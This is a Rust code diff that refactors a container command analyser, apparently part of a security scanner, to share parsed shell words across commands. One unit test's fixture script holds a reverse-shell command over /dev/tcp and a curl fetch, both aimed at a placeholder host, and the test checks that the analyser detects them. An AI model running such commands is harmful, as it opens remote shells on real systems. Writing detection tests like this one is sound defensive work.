@@ -15,6 +15,7 @@ pub mod shell;
 
 use std::cell::OnceCell;
 use std::collections::HashMap;
+use std::fmt;
 use std::hash::{BuildHasherDefault, Hasher};
 use std::ops::{Deref, Range};
 use std::rc::Rc;
@@ -44,20 +45,29 @@ const PARSED_CACHE_BYTES: usize = 1 << 20;
 /// reuses the first result. Bounded by [`PARSED_CACHE_BYTES`] of text per memo.
 #[derive(Default)]
 struct Parsed {
-    scripts: Memo<Vec<ScriptCommand>>,
+    scripts: Memo<ParsedScript>,
     modules: Memo<python::Module>,
 }
 
-/// A command of a parsed script, its texts mapped to the script rather than the file, so
+/// A parsed script's commands, their texts mapped to the script rather than the file, so
 /// that every container running the same script shares them (in the [`Parsed`] cache).
+struct ParsedScript {
+    /// The texts of all the commands' words, command after command (its words, redirect
+    /// targets, then assignment names and values): a container running the script decodes
+    /// them into one run of [`Words`] that its commands share.
+    texts: Vec<Arc<MappedText>>,
+    commands: Vec<ScriptCommand>,
+}
+
+/// A command of a [`ParsedScript`]: its words as ranges of [`ParsedScript::texts`].
 struct ScriptCommand {
     /// The words from the program on (wrappers such as `env` dropped).
-    words: Vec<Arc<MappedText>>,
+    words: Range<usize>,
     /// [`Command::program_start`] of these words.
     program_start: usize,
-    /// Its `NAME=value` prefixes, then those given to its wrappers.
-    assignments: Vec<(Arc<MappedText>, Arc<MappedText>)>,
-    redirects: Vec<Arc<MappedText>>,
+    /// Its `NAME=value` prefixes, then those given to its wrappers: name, value, name...
+    assignments: Range<usize>,
+    redirects: Range<usize>,
     pipe_from: Option<usize>,
     in_substitution: Option<usize>,
     /// What its words hold, for every container running the script.
@@ -65,27 +75,32 @@ struct ScriptCommand {
 }
 
 /// The commands of `script` ([`shell::parse`]) as [`Code`] records them.
-fn script_commands(script: &str) -> Vec<ScriptCommand> {
-    let commands = shell::parse(script).commands.into_iter();
-    commands
-        .map(|mut command| {
-            let start = command.program.unwrap_or(command.words.len());
-            let wrapper = wrapper_assignments(&command.words[..start], |word, range| Arc::new(word.slice(range)));
-            let prefixes = command.assignments.into_iter().map(|a| (Arc::new(a.name), Arc::new(a.value)));
-            let words: Vec<Arc<MappedText>> = command.words.drain(start..).map(Arc::new).collect();
-            let redirects: Vec<Arc<MappedText>> =
-                command.redirects.into_iter().map(|redirect| Arc::new(redirect.target)).collect();
-            ScriptCommand {
-                mentions: Mentions::of(&words, &redirects, |word| word.as_str()),
-                program_start: program_start(words.first().map_or("", |word| word.as_str())),
-                words,
-                assignments: prefixes.chain(wrapper).collect(),
-                redirects,
-                pipe_from: command.pipe_from,
-                in_substitution: command.in_substitution,
-            }
-        })
-        .collect()
+fn parse_script(script: &str) -> ParsedScript {
+    let mut texts = Vec::new();
+    let mut commands = Vec::new();
+    for mut command in shell::parse(script).commands {
+        let start = command.program.unwrap_or(command.words.len());
+        let wrapper = wrapper_assignments(&command.words[..start], |word, range| word.slice(range));
+        let first = texts.len();
+        texts.extend(command.words.drain(start..).map(Arc::new));
+        let words = first..texts.len();
+        texts.extend(command.redirects.into_iter().map(|redirect| Arc::new(redirect.target)));
+        let redirects = words.end..texts.len();
+        let prefixes = command.assignments.into_iter().map(|assignment| (assignment.name, assignment.value));
+        texts.extend(prefixes.chain(wrapper).flat_map(|(name, value)| [Arc::new(name), Arc::new(value)]));
+        let assignments = redirects.end..texts.len();
+        let program = texts[words.clone()].first().map_or("", |word| word.as_str());
+        commands.push(ScriptCommand {
+            program_start: program_start(program),
+            mentions: Mentions::of(&texts[words.clone()], &texts[redirects.clone()], |word| word.as_str()),
+            words,
+            assignments,
+            redirects,
+            pipe_from: command.pipe_from,
+            in_substitution: command.in_substitution,
+        });
+    }
+    ParsedScript { texts, commands }
 }
 
 /// Results by the text they were computed from, within [`PARSED_CACHE_BYTES`] of text.
@@ -256,21 +271,88 @@ impl AsRef<str> for Word {
     }
 }
 
+/// Words of a command: a run of the words that the commands of one argv or one script of a
+/// container share. Of the corpus's 30,000 commands, 22,000 come from the cached parse of
+/// a script and are made anew for every container running it: one allocation per script
+/// instead of one to three per command (words, redirects, assignments). An argv and the
+/// `$0`, `$1`, ... it passes to `sh -c` share one too.
+#[derive(Clone, Default)]
+pub struct Words {
+    shared: Rc<[Word]>,
+    range: Range<usize>,
+}
+
+impl Words {
+    /// The words from `index` on.
+    fn tail(&self, index: usize) -> Words {
+        Words { shared: Rc::clone(&self.shared), range: (self.range.start + index).min(self.range.end)..self.range.end }
+    }
+
+    /// Another run of the same shared words.
+    fn run(&self, range: Range<usize>) -> Words {
+        Words { shared: Rc::clone(&self.shared), range }
+    }
+}
+
+impl Deref for Words {
+    type Target = [Word];
+
+    fn deref(&self) -> &[Word] {
+        &self.shared[self.range.clone()]
+    }
+}
+
+impl<'a> IntoIterator for &'a Words {
+    type Item = &'a Word;
+    type IntoIter = std::slice::Iter<'a, Word>;
+
+    fn into_iter(self) -> Self::IntoIter {
+        self.iter()
+    }
+}
+
+impl FromIterator<Word> for Words {
+    fn from_iter<I: IntoIterator<Item = Word>>(words: I) -> Self {
+        let shared: Rc<[Word]> = words.into_iter().collect();
+        Words { range: 0..shared.len(), shared }
+    }
+}
+
+impl fmt::Debug for Words {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_list().entries(self.iter()).finish()
+    }
+}
+
+/// A command's `NAME=value` assignments: [`Words`] holding name, value, name, value...
+#[derive(Clone, Debug, Default)]
+pub struct Assignments(Words);
+
+impl<'a> IntoIterator for &'a Assignments {
+    type Item = Assignment<'a>;
+    type IntoIter = std::iter::Map<std::slice::ChunksExact<'a, Word>, fn(&'a [Word]) -> Assignment<'a>>;
+
+    fn into_iter(self) -> Self::IntoIter {
+        let pair: fn(&'a [Word]) -> Assignment<'a> = |pair| Assignment { name: &pair[0], value: &pair[1] };
+        self.0.chunks_exact(2).map(pair)
+    }
+}
+
 /// One command as it would run: program first (wrappers such as `env`, `sudo` and
 /// `timeout` already removed), arguments after, each word with its file positions.
 /// Made only here, so that [`Command::program`] agrees with `words`.
 #[derive(Clone, Debug, Default)]
 pub struct Command {
-    pub words: Vec<Word>,
+    pub words: Words,
     /// Index (in [`Code::commands`]) of the command whose output is piped into this one.
     pub piped_from: Option<usize>,
     /// Index of the command in whose `$(...)`/`<(...)` substitution this one runs.
     pub substituted_into: Option<usize>,
     /// Redirection targets and here-document bodies.
-    pub redirects: Vec<Word>,
+    pub redirects: Words,
     /// `NAME=value` assignments that come with it: shell prefixes (`A=b cmd`, or a line of
     /// assignments alone, whose `words` are then empty) and those given to `env`/`sudo`.
-    pub assignments: Vec<Assignment>,
+    pub assignments: Assignments,
     /// Where the program's base name starts in `words[0]`: the rules ask for it 240,000
     /// times on the corpus, for 30,000 commands.
     program_start: usize,
@@ -355,10 +437,10 @@ fn program_start(program: &str) -> usize {
 }
 
 /// A `NAME=value` assignment (name including any `[subscript]`).
-#[derive(Clone, Debug)]
-pub struct Assignment {
-    pub name: Word,
-    pub value: Word,
+#[derive(Clone, Copy, Debug)]
+pub struct Assignment<'a> {
+    pub name: &'a Word,
+    pub value: &'a Word,
 }
 
 /// Python source found in a container, with the map from its text to the file.
@@ -408,7 +490,7 @@ pub struct Code {
 impl Code {
     /// Analyses a container's command, args and script.
     pub fn of(container: &Container<'_>) -> Code {
-        let argv: Vec<Word> = container.command.iter().chain(&container.args).map(Word::node).collect();
+        let argv: Words = container.command.iter().chain(&container.args).map(Word::node).collect();
         // Asked before `argv` moves into its command, and only when there is a script to run.
         let python_interpreter = container.script.is_some()
             && shell::find_program(&argv).is_some_and(|index| is_python(shell::basename(argv[index].as_str())));
@@ -420,37 +502,45 @@ impl Code {
             if python_interpreter || shebang.contains("python") {
                 code.add_python(&text, 0);
             } else {
-                code.add_shell(&text, &[], 0);
+                code.add_shell(&text, Words::default(), 0);
             }
         }
         code
     }
 
-    /// An argv: recorded as a command (its words moved into it), then followed into the
-    /// code it runs.
-    fn add_argv(&mut self, mut argv: Vec<Word>, depth: usize) {
+    /// An argv: recorded as a command, then followed into the code it runs.
+    fn add_argv(&mut self, argv: Words, depth: usize) {
         if depth > MAX_DEPTH {
             return;
         }
         let Some(start) = shell::find_program(&argv) else { return };
         // Words already mapped to the file: their parts are too.
-        let assignments = wrapper_assignments(&argv[..start], |word, range| Word::from(word.slice(range)))
-            .into_iter()
-            .map(|(name, value)| Assignment { name, value })
-            .collect();
-        argv.drain(..start);
+        let wrapper = wrapper_assignments(&argv[..start], |word, range| Word::from(word.slice(range)));
+        let assignments = if wrapper.is_empty() {
+            argv.run(0..0)
+        } else {
+            wrapper.into_iter().flat_map(|(name, value)| [name, value]).collect()
+        };
+        let argv = argv.tail(start);
         let program_start = program_start(argv[0].as_str());
         let program = &argv[0].as_str()[program_start..];
-        // Recorded before the code it runs (commands stay in the order they run), its words
-        // moved in once that code is followed.
+        // Recorded before the code it runs (commands stay in the order they run), what its
+        // words hold noted once that code is followed.
         let recorded = self.commands.len();
-        self.commands.push(Command { assignments, program_start, ..Command::default() });
+        self.commands.push(Command {
+            words: argv.clone(),
+            redirects: argv.run(0..0),
+            assignments: Assignments(assignments),
+            piped_from: None,
+            substituted_into: None,
+            program_start,
+            mentions: None,
+        });
         // The arguments already followed as inline code (and, for a shell, its `$0`...).
         let mut consumed = 0..0;
         if shell::is_shell(program) {
             if let Some(index) = inline_code_index(&argv) {
-                let positional = &argv[index + 1..];
-                self.add_shell(&argv[index], positional, depth + 1);
+                self.add_shell(&argv[index], argv.tail(index + 1), depth + 1);
                 consumed = index..argv.len();
             }
         } else if let Some(index) = inline_code_index(&argv).filter(|_| is_python(program)) {
@@ -463,26 +553,24 @@ impl Code {
                 self.add_python(word, depth + 1);
             }
         }
-        let command = &mut self.commands[recorded];
-        command.mentions = Some(Mentions::of(&argv, &[], Word::as_str));
-        command.words = argv;
+        self.commands[recorded].mentions = Some(Mentions::of(&argv, &[], Word::as_str));
     }
 
     /// A shell script; `positional` are its `$0`, `$1`, ... when run with `sh -c`.
-    fn add_shell(&mut self, script: &Word, positional: &[Word], depth: usize) {
+    fn add_shell(&mut self, script: &Word, positional: Words, depth: usize) {
         if depth > MAX_DEPTH {
             return;
         }
-        let parsed = memoized(script.as_str(), |cache| &mut cache.scripts, script_commands);
+        let parsed = memoized(script.as_str(), |cache| &mut cache.scripts, parse_script);
         let base = self.commands.len();
-        self.commands.reserve(parsed.len());
+        self.commands.reserve(parsed.commands.len());
         let mut runs_positional = false;
         let mut python_inline = Vec::new();
         // Words are decoded from the script's text: each keeps its map to the script.
         let script = Rc::new(script.clone());
-        let within = |local: &Arc<MappedText>| Word::within(local, &script);
-        for command in parsed.iter() {
-            let words: Vec<Word> = command.words.iter().map(within).collect();
+        let script_words: Words = parsed.texts.iter().map(|local| Word::within(local, &script)).collect();
+        for command in &parsed.commands {
+            let words = script_words.run(command.words.clone());
             if words.first().is_some_and(|w| w.as_str() == "$0") {
                 runs_positional = true;
             }
@@ -494,12 +582,8 @@ impl Code {
                 words,
                 piped_from: command.pipe_from.map(|index| base + index),
                 substituted_into: command.in_substitution.map(|index| base + index),
-                redirects: command.redirects.iter().map(within).collect(),
-                assignments: command
-                    .assignments
-                    .iter()
-                    .map(|(name, value)| Assignment { name: within(name), value: within(value) })
-                    .collect(),
+                redirects: script_words.run(command.redirects.clone()),
+                assignments: Assignments(script_words.run(command.assignments.clone())),
                 program_start: command.program_start,
                 mentions: Some(command.mentions),
             });
@@ -512,7 +596,7 @@ impl Code {
         }
         if runs_positional {
             // KFP's bootstrap: `... && "$0" "$@"` runs the remaining elements as a command.
-            self.add_argv(positional.to_vec(), depth + 1);
+            self.add_argv(positional, depth + 1);
         } else if looks_like_python(positional[0].as_str()) {
             // KFP's loader: `printf "%s" "$0" > file.py; python3 file.py "$@"`.
             self.add_python(&positional[0], depth + 1);
@@ -551,7 +635,7 @@ impl Code {
                         .map(|text| Word::from(source_text.file_text(text)))
                         .collect();
                     if !words.is_empty() {
-                        argvs.push(words);
+                        argvs.push(Words::from_iter(words));
                     }
                 }
                 _ => {
@@ -560,14 +644,14 @@ impl Code {
                     if runs_shell || text.as_str().contains(' ') {
                         scripts.push(text);
                     } else {
-                        argvs.push(vec![text]);
+                        argvs.push(Words::from_iter([text]));
                     }
                 }
             }
         }
         self.python.push(source_text);
         for script in scripts {
-            self.add_shell(&script, &[], depth + 1);
+            self.add_shell(&script, Words::default(), depth + 1);
         }
         for argv in argvs {
             self.add_argv(argv, depth + 1);
@@ -625,7 +709,7 @@ fn looks_like_python(text: &str) -> bool {
 mod tests {
     use super::*;
 
-    fn words(texts: &[&str]) -> Vec<Word> {
+    fn words(texts: &[&str]) -> Words {
         let mut offset = 0;
         texts
             .iter()
@@ -660,7 +744,7 @@ mod tests {
     fn commands_note_what_their_words_hold() {
         let mut code = Code::default();
         let script = "bash -i >& /dev/tcp/h/1 0>&1\ncurl -fsSL ftp://h/x\necho hi there\n";
-        code.add_shell(&Word::from(MappedText::verbatim(script, 0)), &[], 0);
+        code.add_shell(&Word::from(MappedText::verbatim(script, 0)), Words::default(), 0);
         let [bash, curl, echo] = &code.commands[..] else { panic!("{:?}", code.commands) };
         assert!(bash.may_hold_device_path() && !bash.may_hold_url());
         assert!(curl.may_hold_url() && !curl.may_hold_device_path());
